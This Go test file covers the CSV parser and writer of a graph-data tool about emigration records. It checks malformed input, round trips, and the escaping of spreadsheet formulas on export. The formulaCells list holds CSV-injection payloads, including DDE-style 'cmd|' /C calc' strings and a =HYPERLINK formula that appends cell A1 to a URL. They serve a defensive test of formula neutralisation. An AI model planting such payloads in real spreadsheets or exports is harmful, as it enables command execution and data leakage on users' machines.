package csv_test

import (
	"bytes"
	stdcsv "encoding/csv"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/emigraph/emigraph/graph"
	"github.com/emigraph/emigraph/seed/format/csv"
	"github.com/emigraph/emigraph/seed/format/formattest"
)

const csvHead = "subject,predicate,object,quote,amount,lowerBound,upperBound,unit,approximation,date\n"

var csvBadInputs = []formattest.BadInput{
	{"unknown column", "subject,predicate,quote,colour\nperson/a,fled-to,q,red\n", "f.csv:1", "colour"},
	{"unnamed column", "subject,predicate,quote,\n", "f.csv:1", "column 4"},
	{"duplicate column", "subject,predicate,quote,Quote\n", "f.csv:1", "quote"},
	{"thousands separator", csvHead + "group/x,emigrated,,q,\"50,000\",,,,,\n", "f.csv:2", "amount"},
	{"word for a number", csvHead + "group/x,emigrated,,q,many,,,,,\n", "f.csv:2", "amount"},
	{"NaN amount", csvHead + "group/x,emigrated,,q,NaN,,,,,\n", "f.csv:2", "amount"},
	{"infinite bound", csvHead + "group/x,emigrated,,q,5,-Inf,,,,\n", "f.csv:2", "lowerBound"},
	{"number out of range", csvHead + "group/x,emigrated,,q,5,,1e999,,,\n", "f.csv:2", "upperBound"},
	{"unit without amount", csvHead + "group/x,emigrated,,q,,,,people,,\n", "f.csv:2", "amount"},
	{"unknown action", "action,subject,predicate,quote\ndelete,person/a,fled-to,q\n", "f.csv:2", "action"},
	{"entity column on a relation row", "subject,predicate,quote,name\nperson/a,fled-to,q,Anna\n", "f.csv:2", "name"},
	{"relation column on an entity row", "action,id,name,subject,predicate,quote\nentity,person/a,Anna,,,They left.\n", "f.csv:2", "quote"},
	{"bad objectOptional", "action,id,subject,predicate,quote,objectOptional\npredicate,emigrated,,,,maybe\n", "f.csv:2", "objectOptional"},
	{"too few cells", csvHead + "person/a,fled-to\n", "f.csv:2", "csv"},
	{"too many cells", "subject,predicate,quote\nperson/a,fled-to,q,extra\n", "f.csv:2", "csv"},
	{"bare quote", "subject,predicate,quote\nperson/a,fled-to,say \"hi\"\n", "f.csv:2", "csv"},
	{"unterminated quoted cell", "subject,predicate,quote\nperson/a,fled-to,\"never closed\n", "f.csv:2", "csv"},
	{"invalid UTF-8", "subject,predicate,quote\nperson/a,fled-to,\xff\xfe\n", "f.csv:2", "quote"},
	// the error names the line where the row starts, after a cell of three lines
	{"line after a multi-line cell", csvHead + "person/a,fled-to,country/b,\"one\ntwo\nthree\",,,,,,\nperson/a,fled-to,country/b,q,x,,,,,\n", "f.csv:5", "amount"},
}

// csvRefusedByGraph are files of the right shape that state what graph
// refuses, at the line of the row.
var csvRefusedByGraph = []formattest.BadInput{
	{"no quote column", "subject,predicate,object\nperson/a,fled-to,country/b\n", "f.csv:2", "sources"},
	{"missing quote", csvHead + "person/a,fled-to,country/b,,,,,,,\n", "f.csv:2", "sources"},
	{"missing subject", csvHead + ",fled-to,country/b,They left.,,,,,,\n", "f.csv:2", "subject"},
	{"missing predicate", csvHead + "person/a,,country/b,They left.,,,,,,\n", "f.csv:2", "predicate"},
	{"blank lines count", csvHead + "\n\nperson/a,fled-to,country/b,,,,,,,\n", "f.csv:4", "sources"},
	{"a source with no quote", "subject,predicate,title\nperson/a,fled-to,T\n", "f.csv:2", "sources[0].quote"},
}

func TestCSVRefusedByGraph(t *testing.T) {
	formattest.RefusedByGraph(t, csv.Format, "f.csv", csvRefusedByGraph)
}

func TestCSVRefuses(t *testing.T) {
	formattest.Refuses(t, csv.Format, "f.csv", csvBadInputs)
}

func TestCSVReportsEveryBadRow(t *testing.T) {
	in := csvHead + "person/a,fled-to,country/b,q,,,,,ROUGHLY,\nperson/a,fled-to,country/b,q,x,,,,,\n"
	_, err := csv.Parse("f.csv", strings.NewReader(in))
	if err == nil {
		t.Fatal("got no error, want two")
	}
	for _, want := range []string{"f.csv:2: amount: ", "f.csv:3: amount: "} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("got error\n%v\nwant it to contain %q", err, want)
		}
	}
}

var csvAccepted = []formattest.Accepted{
	{"bad approximation, date and type pass through to the store",
		"action,id,name,type,subject,predicate,quote,amount,approximation,date\n" +
			"entity,person/a,Anna,ALIEN,,,,,,\n" +
			",,,,person/a,fled-to,q,5,ROUGHLY,2022-13\n",
		func(t *testing.T, c *graph.Changeset) {
			if got, want := c.Relations[0].Relation.Quantity.Approximation, graph.Approximation("ROUGHLY"); got != want {
				t.Errorf("approximation = %q, want %q", got, want)
			}
			if got, want := c.Relations[0].Relation.Date, "2022-13"; got != want {
				t.Errorf("date = %q, want %q", got, want)
			}
			if got, want := c.Entities[0].Entity.Type, graph.EntityType("ALIEN"); got != want {
				t.Errorf("type = %q, want %q", got, want)
			}
		}},
	{"columns in any order and case, with a byte order mark",
		"\ufeffQUOTE,Predicate,subject,endDATE,Date\n\"He said, \"\"go\"\".\",fled-to,Chulpan Khamatova,2023,2022\n",
		func(t *testing.T, c *graph.Changeset) {
			want := graph.Relation{Subject: "Chulpan Khamatova", Predicate: "fled-to", Date: "2022", EndDate: "2023", Sources: []graph.Source{{Quote: `He said, "go".`}}}
			if diff := formattest.Same(c, &graph.Changeset{Relations: []graph.RelationChange{{Relation: want}}}); diff != "" {
				t.Error(diff)
			}
			if got, want := c.Relations[0].Where, "f.csv:2"; got != want {
				t.Errorf("Where = %q, want %q", got, want)
			}
		}},
	{"consecutive rows of one fact are one relation with several sources",
		"subject,predicate,object,quote,section\n" +
			"person/a,fled-to,country/b,first,S1\n" +
			"person/a,fled-to,country/b,second,\n" +
			"person/a,fled-to,country/c,third,\n" +
			"person/a,fled-to,country/b,fourth,\n",
		func(t *testing.T, c *graph.Changeset) {
			var got []int
			for _, r := range c.Relations {
				got = append(got, len(r.Relation.Sources))
			}
			if len(got) != 3 || got[0] != 2 || got[1] != 1 || got[2] != 1 {
				t.Fatalf("sources per relation = %v, want [2 1 1]", got)
			}
			if got, want := c.Relations[0].Relation.Sources[1], (graph.Source{Quote: "second"}); got != want {
				t.Errorf("second source = %+v, want %+v", got, want)
			}
			if got, want := c.Relations[2].Where, "f.csv:5"; got != want {
				t.Errorf("Where of the last relation = %q, want %q", got, want)
			}
		}},
	{"entity, predicate and retract rows",
		"action,id,name,type,aliases,removeAliases,label,inverseLabel,subjectTypes,objectTypes,objectOptional,subject,predicate,quote\n" +
			"predicate,emigrated,,,,,emigrated,emigrants, PERSON | GROUP ,,TRUE,,,\n" +
			"ENTITY,person/a,Anna,PERSON,Анна | Ann,Annie,,,,,,,,\n" +
			"retract,rel/0123456789abcdef0123,,,,,,,,,,,,\n" +
			"retract,,,,,,,,,,,person/a,fled-to,\n",
		func(t *testing.T, c *graph.Changeset) {
			want := &graph.Changeset{
				Predicates: []graph.PredicateChange{{Predicate: graph.Predicate{ID: "emigrated", Label: "emigrated", InverseLabel: "emigrants",
					SubjectTypes: []graph.EntityType{graph.Person, graph.Group}, ObjectOptional: true}}},
				Entities: []graph.EntityChange{{Entity: graph.Entity{ID: "person/a", Name: "Anna", Type: graph.Person, Aliases: []string{"Анна", "Ann"}},
					RemoveAliases: []string{"Annie"}}},
				Retractions: []graph.Retraction{{Relation: graph.Relation{ID: "rel/0123456789abcdef0123"}},
					{Relation: graph.Relation{Subject: "person/a", Predicate: "fled-to"}}},
			}
			if diff := formattest.Same(c, want); diff != "" {
				t.Error(diff)
			}
		}},
	{"numbers in every notation strconv reads",
		csvHead + "group/x,emigrated,,q, 1e3 ,-0.5,0x1p4,,EXACT,\n",
		func(t *testing.T, c *graph.Changeset) {
			q := c.Relations[0].Relation.Quantity
			if q.Amount != 1000 || *q.LowerBound != -0.5 || *q.UpperBound != 16 {
				t.Errorf("quantity = %v %v %v, want 1000 -0.5 16", q.Amount, *q.LowerBound, *q.UpperBound)
			}
		}},
	{"header only", csvHead, func(t *testing.T, c *graph.Changeset) {
		if got := c.Len(); got != 0 {
			t.Errorf("got %d items, want 0", got)
		}
	}},
}

func TestCSVAccepts(t *testing.T) {
	for _, tt := range csvAccepted {
		t.Run(tt.Name, func(t *testing.T) {
			c, err := csv.Parse("f.csv", strings.NewReader(tt.Input))
			if err != nil {
				t.Fatalf("ParseCSV: %v", err)
			}
			tt.Check(t, c)
		})
	}
}

// A relations-only changeset is written without the action column and the
// entity and predicate columns: the plain spreadsheet.
func TestCSVWritesOnlyUsedColumns(t *testing.T) {
	c := &graph.Changeset{Relations: []graph.RelationChange{{Relation: graph.Relation{Subject: "person/a", Predicate: "fled-to", Object: "country/b",
		Sources: []graph.Source{{Quote: "They left, \"quickly\"."}}}}}}
	var buf bytes.Buffer
	if err := csv.Write(&buf, c); err != nil {
		t.Fatal(err)
	}
	want := "subject,predicate,object,quote\nperson/a,fled-to,country/b,\"They left, \"\"quickly\"\".\"\n"
	if got := buf.String(); got != want {
		t.Errorf("WriteCSV:\n got %q\nwant %q", got, want)
	}
}

func TestCSVRoundTrip(t *testing.T) {
	formattest.RoundTrip(t, csv.Format, "f.csv", formattest.Sample())
}

func TestCSVGolden(t *testing.T) { formattest.Golden(t, csv.Format, formattest.Sample()) }

func FuzzParseCSV(f *testing.F) {
	formattest.Fuzz(f, csv.Format, "f.csv", formattest.Inputs(append(csvBadInputs, csvRefusedByGraph...), csvAccepted,
		"subject,predicate,quote\na,p,\"x\ry\"\n",
		"subject,predicate,quote\na,p,\"x\r\n\"\n",
		"subject,predicate,quote\r\na,p,q\r\n a ,p, q \r\n",
		"action,id,aliases,subjectTypes,subject,predicate,quote\nentity,person/a,| |,,,,\npredicate,p,,|,,,\n",
		"subject,predicate,quote,amount,lowerBound\na,p,q,-0,0\na,p,r,0,-0\n",
		"action,subject,predicate,quote,title\nretract,a,p,,\nretract,a,p,,\nretract,a,p,q,\nretract,a,p,,T\n",
		"subject,predicate,quote,title\na,p,,\na,p,q,\na,p,,T\n",
		// formulas, their escapes, and quotes that are not escapes
		"subject,predicate,quote,note,amount,lowerBound\n=1,p,'=HYPERLINK(\"x\"),''q,-5,'-1\n'Tis,p,@x,-,+3,'+2\n",
		"subject,predicate,quote,title\n\"\tx\",p,\"'\ry\",'\n'-,p,''',''\n",
	)...)
}

// A broken quote on one row does not hide the problems of the rows after
// it: every problem of the file is reported at once.
func TestCSVReportsEveryProblem(t *testing.T) {
	in := "subject,predicate,object,quote,amount\n" +
		"person/a,fled-to,country/x,\"open quote,5\n" +
		"person/b,fled-to,country/y,ok,6\n" +
		"person/c,fled-to,country/z,fine,many\n" +
		"person/d,fled-to,country/w,fine,7,extra\n"
	_, err := csv.Parse("f.csv", strings.NewReader(in))
	if err == nil {
		t.Fatal("no error")
	}
	for _, want := range []string{"f.csv:2", "quoted whole", "f.csv:4: amount", "f.csv:5"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("the errors do not say %q:\n%v", want, err)
		}
	}
}

// formulaCells are cells a spreadsheet would run as formulas, or that look
// like the escape of one, and cells that must stay as they are.
var formulaCells = []string{
	`=HYPERLINK("https://example.com/x?"&A1,"Click for the source")`,
	"+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "\rCarriage", "=1",
	"'=already quoted", "''two quotes", "'Tis the season", "'", "-", "-5", "+3.5", "-1e+25", "- a dash and a space",
}

// inert reports the first cell of a written CSV file (after its header)
// that a spreadsheet would read as a formula.
func inert(t *testing.T, written []byte) string {
	t.Helper()
	rows, err := stdcsv.NewReader(bytes.NewReader(written)).ReadAll()
	if err != nil {
		t.Fatalf("the written file is not CSV: %v\n%s", err, written)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !numberRE.MatchString(cell) {
				return cell
			}
		}
	}
	return ""
}

var numberRE = regexp.MustCompile(`^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$`)

// formulaChangeset puts cell in every free-text field of a relation and an
// entity.
func formulaChangeset(cell string) *graph.Changeset {
	return &graph.Changeset{
		Entities: []graph.EntityChange{{Entity: graph.Entity{ID: "person/a", Name: cell, Type: graph.Person, Description: cell}}},
		Relations: []graph.RelationChange{{Relation: graph.Relation{Subject: cell, Predicate: "fled-to", Object: cell, Note: cell,
			Sources: []graph.Source{{Quote: cell, Section: cell, Title: cell, URL: cell}}}}},
	}
}

// A CSV export makes every cell a spreadsheet would run as a formula text
// (a single quote in front, as OWASP recommends), and reads back as it was:
// a quote that starts with "=" or "-" loads unchanged.
func TestCSVExportEscapesFormulas(t *testing.T) {
	for _, cell := range formulaCells {
		t.Run(cell, func(t *testing.T) {
			c := formulaChangeset(cell)
			var buf bytes.Buffer
			if err := csv.Write(&buf, c); err != nil {
				t.Fatal(err)
			}
			if bad := inert(t, buf.Bytes()); bad != "" {
				t.Errorf("the export has the cell %q, which a spreadsheet runs as a formula:\n%s", bad, buf.Bytes())
			}
			formattest.RoundTrip(t, csv.Format, "f.csv", c)
		})
	}
	var buf bytes.Buffer
	csv.Write(&buf, formulaChangeset(`=HYPERLINK("https://example.com","x")`))
	if !strings.Contains(buf.String(), `"'=HYPERLINK(""https://example.com"",""x"")"`) {
		t.Errorf("the formula is not written with a single quote in front:\n%s", buf.String())
	}
}

// A single quote in front of a formula character or of another single
// quote is the escape, and is taken off; any other quote is part of the
// cell.
func TestCSVReadsEscapedCells(t *testing.T) {
	in := "subject,predicate,quote,note,amount\n" +
		"'Tis,fled-to,'=1+1,'-2,'-5\n" +
		"'@x,fled-to,''quoted,'plain,5\n"
	c, err := csv.Parse("f.csv", strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	r0, r1 := c.Relations[0].Relation, c.Relations[1].Relation
	for _, tc := range []struct{ got, want string }{
		{r0.Subject, "'Tis"}, {r0.Sources[0].Quote, "=1+1"}, {r0.Note, "-2"},
		{r1.Subject, "@x"}, {r1.Sources[0].Quote, "'quoted"}, {r1.Note, "'plain"},
	} {
		if tc.got != tc.want {
			t.Errorf("read %q, want %q", tc.got, tc.want)
		}
	}
	if q := r0.Quantity; q == nil || q.Amount != -5 {
		t.Errorf("amount '-5 read as %+v, want -5", q)
	}
}

// Whatever text a field holds, the export has no cell a spreadsheet runs as
// a formula, and reads back as it was.
func FuzzCSVCellsAreInert(f *testing.F) {
	for _, cell := range formulaCells {
		f.Add(cell)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		if !utf8.ValidString(cell) || strings.Contains(cell, "\r\n") {
			return // text no parser gives (CSV reads a line ending in a cell as "\n")
		}
		c := formulaChangeset(cell)
		var buf bytes.Buffer
		if err := csv.Write(&buf, c); err != nil {
			return // a cell CSV cannot carry is refused, not written
		}
		if bad := inert(t, buf.Bytes()); bad != "" {
			t.Fatalf("the export has the cell %q, which a spreadsheet runs as a formula", bad)
		}
		got, err := csv.Parse("f.csv", bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatalf("Parse(Write(c)): %v\n%s", err, buf.Bytes())
		}
		if diff := formattest.Same(got, c); diff != "" {
			t.Fatalf("Parse(Write(c)) differs from c:%s\n--- written:\n%q", diff, buf.Bytes())
		}
	})
}
